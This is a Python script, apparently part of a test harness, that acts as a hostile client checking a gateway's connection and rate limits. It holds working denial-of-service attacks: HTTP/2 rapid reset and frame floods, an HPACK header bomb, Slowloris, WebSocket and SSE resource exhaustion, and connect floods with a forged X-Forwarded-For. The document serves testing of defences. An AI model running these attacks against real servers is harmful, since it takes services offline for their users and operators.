"""A client that means harm, as a process of its own: attacker.py ATTACK GATEWAY BACKEND TOKEN.

It attacks between the lines "go" and "stop" on its standard input, in rounds with a pause after each, and with the lowest priority, so
that what others lose is not simply the processor that the attacker takes. "round" on its standard output: one is over.
It proves itself by what it is told: every attack is one that a server without the limit pays for, and the gateway's counters say that it
was seen.
"""
import base64, http.client, json, os, select, socket, struct, sys, threading, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
PAUSE_S = 0.01


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def fields(*pairs):
    """HPACK literals without indexing (RFC 7541 6.2.2)."""
    return b"".join(b"\0" + bytes([len(n)]) + n + bytes([len(v)]) + v for n, v in pairs)


REQUEST = fields((b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/.well-known/jwks.json"), (b":authority", b"x"))


def masked(opcode, payload, fin=True):
    size = bytes([0x80 | len(payload)]) if len(payload) < 126 else b"\xfe" + struct.pack(">H", len(payload))
    return bytes([(0x80 if fin else 0) | opcode]) + size + b"\0\0\0\0" + payload


class Attacker:
    def __init__(self, gateway, backend, token):
        self.gateway, self.backend, self.token = gateway, backend, token
        self.held = []  # connections that stay
        self.serial = 0

    def connect(self, receive_buffer=None):
        host, port = self.gateway.rsplit(":", 1)
        sock = socket.socket()
        if receive_buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.settimeout(2)
        sock.connect((host, int(port)))
        return sock

    def pour(self, sock, piece, times):
        """Sends `piece` again and again until the server ends the connection. Returns whether it did."""
        try:
            for _ in range(times):
                sock.sendall(piece)
                if select.select([sock], [], [], 0)[0] and not sock.recv(65536):
                    return True
            sock.settimeout(2)
            while sock.recv(65536):
                pass
            return True
        except (ConnectionError, BrokenPipeError):
            return True
        except TimeoutError:
            return False
        finally:
            sock.close()

    def http2(self, settings=b""):
        sock = self.connect()
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        return sock

    def flood(self, piece, before=b""):
        sock = self.http2()
        sock.sendall(before)
        self.pour(sock, piece * 50, 100)

    def websocket(self, token=True):
        sock = self.connect()
        head = "GET /v1/events HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: %s\r\n" \
               "Sec-WebSocket-Protocol: galaxy.push.v1\r\n" % base64.b64encode(os.urandom(16)).decode()
        sock.sendall((head + ("Authorization: Bearer %s\r\n" % self.token if token else "") + "\r\n").encode())
        return sock

    # --- HTTP/2

    def rapid_reset(self):
        sock, stream = self.http2(), 1
        try:
            for _ in range(60):
                burst = b""
                for _ in range(50):
                    burst += frame(HEADERS, 0x5, stream, REQUEST) + frame(RESET, 0, stream, struct.pack(">I", 8))
                    stream += 2
                sock.sendall(burst)
        except ConnectionError:
            pass
        sock.close()

    def ping_flood(self):
        self.flood(frame(PING, 0, 0, b"12345678"))

    def settings_flood(self):
        self.flood(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)))

    def priority_flood(self):
        self.flood(frame(PRIORITY, 0, 1, b"\0\0\0\0\1"))

    def empty_data_flood(self):
        self.flood(frame(DATA, 0, 1), before=frame(HEADERS, 0x4, 1, REQUEST))

    def window_update_flood(self):
        self.flood(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))

    def continuation_flood(self):
        self.flood(frame(CONTINUATION, 0, 1, fields((b"x", b"y" * 100))), before=frame(HEADERS, 0, 1, REQUEST))

    def header_bomb(self):
        """One entry of the table of HPACK, named again and again: four kilobytes for a byte."""
        entry = b"\x40\x01x\x7f\x81\x1d" + b"v" * 3840
        self.flood(b"", before=frame(HEADERS, 0x4, 1, REQUEST + entry + b"\xbe" * 10_000))

    def zero_window(self):
        """Requests whose answers nobody takes; the connections stay."""
        if len(self.held) < 50:
            sock = self.http2(struct.pack(">HI", 4, 0))
            sock.sendall(b"".join(frame(HEADERS, 0x5, stream, REQUEST) for stream in range(1, 201, 2)))
            self.held.append(sock)

    # --- HTTP/1.1

    def head_flood(self):
        sock = self.connect()
        self.pour(sock, b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-Filler: %s\r\n" % (b"f" * 1000) * 20, 20)

    def pipeline_flood(self):
        sock = self.connect()
        self.pour(sock, b"GET /nothing HTTP/1.1\r\nHost: x\r\n\r\n" * 200, 20)

    def slow_heads(self):
        """Slowloris: heads of which a byte comes now and then."""
        while len(self.held) < 200:
            sock = self.connect()
            sock.sendall(b"GET /v1/events HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            self.held.append(sock)
        for sock in self.held:
            try:
                sock.sendall(b"s")
            except ConnectionError:
                pass

    def silent_connections(self):
        while len(self.held) < 200:
            self.held.append(self.connect())

    # --- WebSocket and SSE

    def websocket_fragments(self):
        sock = self.websocket()
        sock.sendall(masked(1, b"x", fin=False))
        self.pour(sock, masked(0, b"", fin=False) * 50, 60)

    def websocket_pings(self):
        self.pour(self.websocket(), masked(9, b"12345678") * 10, 30)

    def websocket_messages(self):
        """Tokens to be looked at, one after the other."""
        refresh = json.dumps({"refresh": {"token": self.token}}).encode()
        self.pour(self.websocket(), masked(1, refresh), 100)

    def no_hello(self):
        while len(self.held) < 100:
            self.held.append(self.websocket(token=False))

    def deaf_streams(self):
        """SSE clients that never read what is published for them, by themselves."""
        while len(self.held) < 30:
            sock = self.connect(receive_buffer=4096)
            sock.sendall(("GET /v1/events HTTP/1.1\r\nHost: x\r\nAccept: text/event-stream\r\nAuthorization: Bearer %s\r\n\r\n" % self.token).encode())
            self.held.append(sock)
        host, port = self.backend.rsplit(":", 1)
        connection = http.client.HTTPConnection(host, int(port), timeout=5)
        for _ in range(3):
            self.serial += 1
            event = {"user_id": "mallory", "kind": "noise", "payload": {"filler": "f" * 30_000, "serial": self.serial}}
            connection.request("POST", "/v1/events", json.dumps(event), {"content-type": "application/json"})
            connection.getresponse().read()
        connection.close()

    # --- connects

    def connect_flood(self):
        """Without a pause, from one address outside; behind a proxy that says so."""
        for _ in range(20):
            sock = self.connect()
            sock.sendall(b"GET /v1/events HTTP/1.1\r\nHost: x\r\nAccept: text/event-stream\r\nX-Forwarded-For: 203.0.113.9\r\n"
                         b"Connection: close\r\nAuthorization: Bearer not.a.token\r\n\r\n")
            try:
                sock.recv(65536)
            except (ConnectionError, TimeoutError):
                pass
            sock.close()


def main():
    attack, gateway, backend, token = sys.argv[1:5]
    os.nice(19)
    going, ended = threading.Event(), threading.Event()

    def listen():
        for line in sys.stdin:
            going.set() if line.strip() == "go" else going.clear()
        ended.set()
        going.set()

    threading.Thread(target=listen, daemon=True).start()
    attacker = Attacker(gateway, backend, token)
    while True:
        going.wait()
        if ended.is_set():
            return
        try:
            getattr(attacker, attack)()
        except (ConnectionError, TimeoutError):
            pass  # that is what the limits are for
        print("round", flush=True)
        time.sleep(PAUSE_S)


if __name__ == "__main__":
    main()
